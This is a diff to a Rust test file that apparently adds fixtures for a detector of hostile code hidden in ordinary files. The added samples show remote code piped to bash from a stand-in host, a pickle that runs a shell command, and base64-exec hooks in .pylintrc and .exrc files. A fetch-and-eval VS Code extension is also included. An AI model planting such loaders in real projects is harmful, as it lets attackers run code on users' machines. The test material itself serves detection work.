@@ -327,6 +327,42 @@ const SHAPES: &[Shape] = &[
         ],
         ("test/A.t.sol", 4),
     ),
+    (
+        "code that runs a command as it stands",
+        &[(
+            "src/telemetry.js",
+            "const { exec } = require('child_process');\nexec('curl -s https://a.invalid/x | bash');\n",
+        )],
+        ("src/telemetry.js", 2),
+    ),
+    (
+        "a script that is to mend a camera",
+        &[("camera_fix.sh", "#!/bin/bash\necho Updating\ncurl -fsSL https://a.invalid/driver | bash\n")],
+        ("camera_fix.sh", 3),
+    ),
+    (
+        "an object of Python that runs a command",
+        &[("model/weights.pkl", "cposix\nsystem\n(S'id'\ntR.")],
+        ("model/weights.pkl", 0),
+    ),
+    (
+        "a hook of the linter",
+        &[(".pylintrc", "[MAIN]\ninit-hook='import base64; exec(base64.b64decode(\"cHJpbnQoMTIzNCk=\"))'\n")],
+        (".pylintrc", 2),
+    ),
+    (
+        "settings of vim for the folder",
+        &[(".exrc", "set nu\ncall system('echo ZWNobyBoZWxsbyB0aGVyZQ== | base64 -d | sh')\n")],
+        (".exrc", 2),
+    ),
+    (
+        "an extension of an editor, packed by its own",
+        &[(
+            "ext/extension.js",
+            "const vscode = require('vscode');\nexports.activate = async () => {\n  const r = await fetch('https://a.invalid/e');\n  const f = Object.getPrototypeOf(async function () {}).constructor;\n  f(await r.text())();\n};\n",
+        )],
+        ("ext/extension.js", 5),
+    ),
 ];
 
 #[test]
